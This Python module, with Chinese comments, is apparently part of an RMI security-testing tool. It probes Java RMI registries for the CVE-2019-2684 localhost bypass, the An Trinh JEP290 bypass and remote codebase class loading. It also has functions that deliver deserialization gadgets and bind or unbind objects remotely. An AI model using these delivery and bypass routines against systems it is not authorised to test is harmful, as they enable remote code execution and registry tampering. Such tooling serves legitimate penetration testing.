"""
RMI 注册中心客户端

对注册中心发送构造的调用，根据服务端返回的异常判断其配置与漏洞状态；
同时提供 list / lookup / bind / rebind / unbind 操作。

注册中心方法可以用两种约定调用：旧式约定（调用序号 + 接口哈希，
由 RegistryImpl_Skel 分发）或按方法哈希调用。后者绕过了部分 JDK
版本中骨架里的本地地址检查，即 localhost bypass。
"""

from __future__ import annotations

import logging
from typing import Any, List, Optional

from rmiprobe.config import ProbeConfig
from rmiprobe.exceptions import InternalError, PayloadError, ProtocolError, RemoteCallError
from rmiprobe.objects.wrapper import RemoteObjectWrapper
from rmiprobe.protocol.arguments import MethodArguments, PayloadObject
from rmiprobe.protocol.constants import REGISTRY_INTERFACE_HASH
from rmiprobe.protocol.dispatcher import CallAddress, HashCall, LegacyCall, RMIDispatcher
from rmiprobe.protocol.faults import REMOTE_KINDS, FaultKind
from rmiprobe.protocol.objid import REGISTRY_ID
from rmiprobe.serialization import BOGUS_CLASS_NAME, JavaArray, JavaObject, plain_object

from .base import BaseClient, Rule, Success, classify
from .payloads import GadgetProvider
from .result import ProbeResult, Verdict

logger = logging.getLogger(__name__)

CALL_INDICES = {
    "bind": 0,
    "list": 1,
    "lookup": 2,
    "rebind": 3,
    "unbind": 4,
}

METHOD_HASHES = {
    "bind": 7583982177005850366,
    "list": 2571371476350237748,
    "lookup": -7538657168040752697,
    "rebind": -8381844669958460146,
    "unbind": 7305022919901907578,
}

# bind / rebind 探测时使用的绑定名
PROBE_BOUND_NAME = "rmg"

# 注册中心中不可能存在的名称
IMPOSSIBLE_NAME = "If this name exists on the registry, it is definitely the maintainers fault..."

NON_LOCAL = "non-local host"
CANNOT_MODIFY = "Cannot modify this registry"
READ_STRING_CAST = "Cannot cast an object to java.lang.String"
INTEGER_CAST = "java.lang.Integer cannot be cast to"

_ACCESS = (FaultKind.ACCESS_DENIED,)


class RegistryClient(BaseClient):
    """
    注册中心客户端

    示例:
        >>> client = RegistryClient(RMIDispatcher(transport), config)
        >>> result = client.enum_string_marshalling()
        >>> marshal = result.details.get("marshal")
    """

    OBJ_ID = REGISTRY_ID

    def __init__(
        self,
        dispatcher: RMIDispatcher,
        config: Optional[ProbeConfig] = None,
        gadget_provider: Optional[GadgetProvider] = None,
    ):
        super().__init__(dispatcher, config)
        self.gadget_provider = gadget_provider

    # ==================== 调用辅助 ====================

    @staticmethod
    def get_call_by_name(call_name: str) -> LegacyCall:
        """
        注册中心方法名 -> 旧式调用地址

        Raises:
            InternalError: 未知方法名
        """
        if call_name not in CALL_INDICES:
            raise InternalError(f"Unable to find callID for method {call_name!r}", probe_name="get_call_by_name")
        return LegacyCall(CALL_INDICES[call_name], REGISTRY_INTERFACE_HASH)

    @staticmethod
    def get_hash_by_name(call_name: str) -> HashCall:
        """
        注册中心方法名 -> 方法哈希调用地址

        Raises:
            InternalError: 未知方法名
        """
        if call_name not in METHOD_HASHES:
            raise InternalError(f"Unable to find method hash for method {call_name!r}", probe_name="get_hash_by_name")
        return HashCall(METHOD_HASHES[call_name])

    @staticmethod
    def pack_args_by_name(call_name: str, payload: Any) -> MethodArguments:
        """
        按方法名打包参数，payload 放在会被反序列化的位置

        Raises:
            InternalError: 方法没有打包策略
        """
        java_type = "java.lang.Integer" if isinstance(payload, int) and not isinstance(payload, bool) else "java.lang.Object"
        arguments = MethodArguments()
        if call_name in ("bind", "rebind"):
            arguments.add(PROBE_BOUND_NAME, "java.lang.String")
            arguments.add(payload, java_type)
        elif call_name in ("lookup", "unbind"):
            arguments.add(payload, java_type)
        else:
            raise InternalError(f"Unable to find pack strategy for method {call_name!r}", probe_name="pack_args_by_name")
        return arguments

    def address_for(self, call_name: str, localhost_bypass: bool) -> CallAddress:
        if localhost_bypass:
            return self.get_hash_by_name(call_name)
        return self.get_call_by_name(call_name)

    def _resolve(self, reg_method: Optional[str], localhost_bypass: Optional[bool]):
        method = reg_method or self.config.registry_method
        bypass = self.config.localhost_bypass if localhost_bypass is None else localhost_bypass
        # 检查方法名，未知名称立即报内部错误
        self.address_for(method, bypass)
        return method, bypass

    @staticmethod
    def _cannot_use_lookup(marshal: Optional[bool], reg_method: str) -> bool:
        return marshal is False and reg_method == "lookup"

    # ==================== 探测 ====================

    def enum_string_marshalling(self) -> ProbeResult:
        """
        判断服务端如何反序列化 java.lang.String 参数

        以 Integer 作为 lookup 的参数并把所有类注解替换为一个不存在的类。
        打过补丁的服务端用 readString() 读取，直接报类型转换错误；
        旧版本用 readObject() 读取，先尝试加载注解中的类。
        """
        probe = "string_marshalling"
        rules = [
            Rule(
                (FaultKind.CLASS_CAST,),
                Verdict.CURRENT_DEFAULT,
                "java.lang.String is unmarshalled via readString()",
                contains=READ_STRING_CAST,
                details={"marshal": False},
            ),
            Rule(
                (FaultKind.INVALID_CLASS,),
                Verdict.UNDECIDED,
                "server rejected java.lang.Integer during deserialization; String unmarshalling cannot be determined",
            ),
            Rule(
                (FaultKind.CLASS_NOT_FOUND,),
                Verdict.OUTDATED,
                "java.lang.String is unmarshalled via readObject()",
                contains=BOGUS_CLASS_NAME,
                details={"marshal": True},
            ),
            Rule(
                (FaultKind.CLASS_CAST,),
                Verdict.OUTDATED,
                "java.lang.String is unmarshalled via readObject()",
                contains=INTEGER_CAST,
                details={"marshal": True},
            ),
        ]
        arguments = MethodArguments().add(0, "java.lang.Integer")
        outcome = self._invoke(self.get_call_by_name("lookup"), arguments, annotation=plain_object(BOGUS_CLASS_NAME))
        return classify(probe, outcome, rules, call="lookup")

    def enum_codebase(
        self,
        marshal: Optional[bool] = None,
        reg_method: Optional[str] = None,
        localhost_bypass: Optional[bool] = None,
    ) -> ProbeResult:
        """
        判断服务端是否使用 useCodebaseOnly=false

        所有类注解替换为无效 URL；服务端解析 codebase 时报 MalformedURLException。
        """
        probe = "codebase"
        reg_method, localhost_bypass = self._resolve(reg_method, localhost_bypass)
        if self._cannot_use_lookup(marshal, reg_method):
            return self._skipped(
                probe, "registry uses readString() for java.lang.String; useCodebaseOnly cannot be determined remotely", reg_method
            )

        rules = [
            Rule((FaultKind.MALFORMED_URL,), Verdict.NON_DEFAULT, "server attempted to parse the provided codebase (useCodebaseOnly=false)"),
            Rule((FaultKind.CLASS_CAST,), Verdict.CURRENT_DEFAULT, "server ignored the provided codebase (useCodebaseOnly=true)"),
            Rule(_ACCESS, Verdict.UNKNOWN, f"registry rejected {reg_method} call from non-local host", contains=NON_LOCAL),
        ]
        outcome = self._invoke(
            self.address_for(reg_method, localhost_bypass),
            self.pack_args_by_name(reg_method, 0),
            annotation=self.config.codebase_location,
        )
        return classify(probe, outcome, rules, call=reg_method)

    def enum_localhost_bypass(self) -> ProbeResult:
        """
        判断能否通过按方法哈希调用绕过注册中心的本地地址检查（CVE-2019-2684）

        以方法哈希调用 unbind，名称不可能存在：仍然报 non-local host 说明已修复，
        报 NotBoundException 说明检查被绕过。
        """
        probe = "localhost_bypass"
        rules = [
            Rule(_ACCESS, Verdict.NON_VULNERABLE, "registry rejected unbind call from non-local host", contains=NON_LOCAL),
            Rule(_ACCESS, Verdict.UNDECIDED, "registry is a single entry registry (cannot be modified)", contains=CANNOT_MODIFY),
            Rule((FaultKind.NOT_BOUND,), Verdict.VULNERABLE, "unbind call reached the registry implementation (localhost bypass)"),
        ]
        arguments = MethodArguments().add(IMPOSSIBLE_NAME, "java.lang.String")
        outcome = self._invoke(self.get_hash_by_name("unbind"), arguments)
        on_success = Success(Verdict.VULNERABLE, "unbind call was accepted from remote")
        return classify(probe, outcome, rules, on_success=on_success, call="unbind")

    def enum_jep290_bypass(
        self,
        reg_method: Optional[str] = None,
        localhost_bypass: Optional[bool] = None,
        marshal: Optional[bool] = None,
    ) -> ProbeResult:
        """
        判断注册中心是否受 An Trinh JEP290 绕过影响

        gadget 指向一个无效端口，服务端不会真正建立连接。

        Raises:
            PayloadError: 没有可用的 gadget 提供者或 gadget 生成失败
        """
        probe = "jep290_bypass"
        reg_method, localhost_bypass = self._resolve(reg_method, localhost_bypass)
        if self._cannot_use_lookup(marshal, reg_method):
            return self._skipped(
                probe, "registry uses readString() for java.lang.String; the bypass cannot be checked via lookup", reg_method
            )
        if self.gadget_provider is None:
            raise PayloadError("No gadget provider configured for the JEP290 bypass probe", probe_name=probe)

        host, port = self.config.bypass_probe_host, self.config.bypass_probe_port
        try:
            payload = self.gadget_provider.prepare_an_trinh_gadget(host, port)
        except PayloadError:
            raise
        except Exception as e:
            raise PayloadError(f"Unable to prepare An Trinh gadget: {e}", probe_name=probe, cause=e) from e

        rules = [
            Rule(_ACCESS, Verdict.UNKNOWN, f"registry rejected {reg_method} call from non-local host", contains=NON_LOCAL),
            Rule(_ACCESS, Verdict.UNDECIDED, "registry is a single entry registry (cannot be modified)", contains=CANNOT_MODIFY),
            Rule(REMOTE_KINDS, Verdict.NON_VULNERABLE, "An Trinh bypass gadget was rejected (bypass patched)"),
            Rule((FaultKind.ILLEGAL_ARGUMENT,), Verdict.VULNERABLE, "An Trinh bypass gadget was deserialized (JEP290 bypass)"),
        ]
        outcome = self._invoke(self.address_for(reg_method, localhost_bypass), self.pack_args_by_name(reg_method, payload))
        return classify(probe, outcome, rules, call=reg_method)

    def gadget_call(
        self,
        payload: PayloadObject,
        reg_method: Optional[str] = None,
        localhost_bypass: Optional[bool] = None,
        marshal: Optional[bool] = None,
    ) -> ProbeResult:
        """把反序列化 gadget 作为注册中心方法参数发送"""
        probe = "gadget_call"
        reg_method, localhost_bypass = self._resolve(reg_method, localhost_bypass)
        if self._cannot_use_lookup(marshal, reg_method):
            return self._skipped(probe, "registry uses readString() for java.lang.String; lookup cannot deliver objects", reg_method)

        rules = [
            Rule((FaultKind.INVALID_CLASS,), Verdict.NON_VULNERABLE, "payload was rejected (deserialization filter installed)", details={"filter": True}),
            Rule(
                (FaultKind.CLASS_NOT_FOUND,),
                Verdict.UNDECIDED,
                "no deserialization filter, but the gadget class is not available on the server",
                details={"filter": False},
            ),
            Rule((FaultKind.CLASS_CAST,), Verdict.VULNERABLE, "payload was deserialized", details={"filter": False}),
            Rule(REMOTE_KINDS, Verdict.NON_VULNERABLE, "payload was rejected (JEP290 bypass patched)", contains="Method is not Remote"),
        ]
        logger.info(f"Sending {payload.class_name} payload via {reg_method} call")
        outcome = self._invoke(self.address_for(reg_method, localhost_bypass), self.pack_args_by_name(reg_method, payload))
        return classify(probe, outcome, rules, call=reg_method)

    def codebase_call(
        self,
        class_name: str,
        codebase: str,
        reg_method: Optional[str] = None,
        localhost_bypass: Optional[bool] = None,
        marshal: Optional[bool] = None,
    ) -> ProbeResult:
        """
        发送一个带 codebase 注解的合成类实例，判断服务端是否会从远程 codebase 加载类
        """
        probe = "codebase_call"
        reg_method, localhost_bypass = self._resolve(reg_method, localhost_bypass)
        if self._cannot_use_lookup(marshal, reg_method):
            return self._skipped(probe, "registry uses readString() for java.lang.String; lookup cannot deliver objects", reg_method)

        rules = [
            Rule((FaultKind.INVALID_CLASS,), Verdict.NON_VULNERABLE, "class was rejected by a deserialization filter"),
            Rule((FaultKind.CLASS_FORMAT,), Verdict.UNDECIDED, "class was loaded but its class file format is not supported by the server"),
            Rule(
                (FaultKind.CLASS_NOT_FOUND,),
                Verdict.CURRENT_DEFAULT,
                "remote class loading is disabled (no security manager)",
                contains="RMI class loader disabled",
            ),
            Rule(
                (FaultKind.CLASS_NOT_FOUND,),
                Verdict.NON_DEFAULT,
                f"server attempted to load {class_name} from the codebase (useCodebaseOnly=false)",
                contains=class_name,
            ),
            Rule((FaultKind.CLASS_CAST,), Verdict.VULNERABLE, f"{class_name} was loaded from the codebase"),
            Rule((FaultKind.ACCESS_CONTROL,), Verdict.NON_VULNERABLE, "security manager denied loading from the codebase"),
        ]
        payload = plain_object(class_name, self.config.codebase_class_uid)
        outcome = self._invoke(
            self.address_for(reg_method, localhost_bypass),
            self.pack_args_by_name(reg_method, payload),
            annotation=codebase,
        )
        return classify(probe, outcome, rules, call=reg_method)

    # ==================== 注册中心操作 ====================

    def _modify_rules(self, call_name: str) -> List[Rule]:
        return [
            Rule(_ACCESS, Verdict.NON_VULNERABLE, f"registry rejected {call_name} call from non-local host", contains=NON_LOCAL),
            Rule(_ACCESS, Verdict.UNDECIDED, "registry is a single entry registry (cannot be modified)", contains=CANNOT_MODIFY),
        ]

    def _bind_rules(self, call_name: str, bound_name: str) -> List[Rule]:
        return self._modify_rules(call_name) + [
            Rule(
                (FaultKind.CLASS_NOT_FOUND,),
                Verdict.UNDECIDED,
                f"{call_name} was accepted but the bound class was not found (JRE with limited module access)",
            ),
            Rule((FaultKind.ALREADY_BOUND,), Verdict.UNDECIDED, f"name {bound_name!r} is already bound"),
        ]

    def bind_object(self, bound_name: str, payload: Any, localhost_bypass: Optional[bool] = None) -> ProbeResult:
        """把对象绑定到注册中心（对象通常由 build_rmi_server_stub 构造）"""
        return self._bind("bind", bound_name, payload, localhost_bypass)

    def rebind_object(self, bound_name: str, payload: Any, localhost_bypass: Optional[bool] = None) -> ProbeResult:
        return self._bind("rebind", bound_name, payload, localhost_bypass)

    def _bind(self, call_name: str, bound_name: str, payload: Any, localhost_bypass: Optional[bool]) -> ProbeResult:
        _, localhost_bypass = self._resolve(call_name, localhost_bypass)
        class_name = payload.class_name if isinstance(payload, (PayloadObject, JavaObject)) else type(payload).__name__
        logger.info(f"Binding name {bound_name!r} to {class_name}")

        arguments = MethodArguments().add(bound_name, "java.lang.String").add(payload, "java.lang.Object")
        outcome = self._invoke(self.address_for(call_name, localhost_bypass), arguments)
        on_success = Success(Verdict.VULNERABLE, f"{call_name} operation was probably successful")
        return classify(call_name, outcome, self._bind_rules(call_name, bound_name), on_success=on_success, call=call_name)

    def unbind_object(self, bound_name: str, localhost_bypass: Optional[bool] = None) -> ProbeResult:
        _, localhost_bypass = self._resolve("unbind", localhost_bypass)
        logger.info(f"Unbinding name {bound_name!r} from the registry")

        rules = self._modify_rules("unbind") + [
            Rule((FaultKind.NOT_BOUND,), Verdict.UNDECIDED, f"name {bound_name!r} is not bound to the registry"),
        ]
        arguments = MethodArguments().add(bound_name, "java.lang.String")
        outcome = self._invoke(self.address_for("unbind", localhost_bypass), arguments)
        on_success = Success(Verdict.VULNERABLE, "unbind operation was probably successful")
        return classify("unbind", outcome, rules, on_success=on_success, call="unbind")

    def list_bound_names(self) -> List[str]:
        """
        列出注册中心中的绑定名

        Raises:
            RemoteCallError: 服务端返回异常
            ProtocolError: 返回值不是字符串数组
        """
        outcome = self._invoke(self.get_call_by_name("list"), return_type="java.lang.String[]")
        if not outcome.ok:
            raise RemoteCallError(f"list call failed: {outcome.root_fault}", fault=outcome.fault, probe_name="list")
        if not isinstance(outcome.value, JavaArray):
            raise ProtocolError(f"list call returned {type(outcome.value).__name__} instead of String[]")
        names = [name for name in outcome.value.items if isinstance(name, str)]
        logger.info(f"Registry contains {len(names)} bound names")
        return names

    def lookup(self, bound_name: str) -> RemoteObjectWrapper:
        """
        查找绑定名并解析得到的远程对象

        Raises:
            RemoteCallError: 服务端返回异常（例如名称未绑定、桩类无法加载）
            ProtocolError: 返回值不是可解析的远程对象
        """
        arguments = MethodArguments().add(bound_name, "java.lang.String")
        outcome = self._invoke(self.get_call_by_name("lookup"), arguments, return_type="java.rmi.Remote")
        if not outcome.ok:
            raise RemoteCallError(f"lookup of {bound_name!r} failed: {outcome.root_fault}", fault=outcome.fault, probe_name="lookup")
        if not isinstance(outcome.value, JavaObject):
            raise ProtocolError(f"lookup of {bound_name!r} returned {type(outcome.value).__name__} instead of a remote object")
        return RemoteObjectWrapper.from_stub(outcome.value, bound_name)


__all__ = [
    "CALL_INDICES",
    "METHOD_HASHES",
    "IMPOSSIBLE_NAME",
    "PROBE_BOUND_NAME",
    "RegistryClient",
]
